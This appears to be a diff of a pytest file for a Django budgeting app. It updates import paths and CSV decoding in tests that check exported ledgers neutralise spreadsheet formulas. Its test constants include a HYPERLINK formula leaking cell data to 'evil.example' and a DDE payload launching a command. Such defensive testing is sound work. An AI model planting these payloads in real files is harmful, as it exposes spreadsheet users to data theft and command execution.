@@ -9,9 +9,9 @@ from django.urls import reverse
 
 import pytest
 
+from budgeting.counting.pabulib import election_from_pabulib, pabulib_read
 from budgeting.exchange import process_to_pabulib
-from budgeting.models import Project
-from budgeting.pabulib import election_from_pabulib, pabulib_read
+from budgeting.proposals.models import Project
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
 DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -41,7 +41,7 @@ def _assert_no_live_formula(rows: list[dict]) -> None:
 def test_the_ledger_csv_writes_formula_titles_and_names_as_text(hostile, client):
     response = client.get(reverse("budgeting:ledger_csv", kwargs={"slug": hostile.slug}))
 
-    rows = _rows(response.content.decode())
+    rows = _rows(response.getvalue().decode("utf-8-sig"))
     _assert_no_live_formula(rows)
     skate = next(row for row in rows if "HYPERLINK" in row["project"])
     assert skate["project"] == "'" + HYPERLINK
@@ -57,7 +57,7 @@ def test_the_ledger_in_the_open_data_zip_writes_formulas_as_text(hostile, client
     csv_names = [name for name in archive.namelist() if name.endswith(".csv")]
     assert csv_names == ["ledger.csv"]
     for name in csv_names:
-        rows = _rows(archive.read(name).decode())
+        rows = _rows(archive.read(name).decode("utf-8-sig"))
         _assert_no_live_formula(rows)
         assert any(row["project"] == "'" + HYPERLINK for row in rows)
 
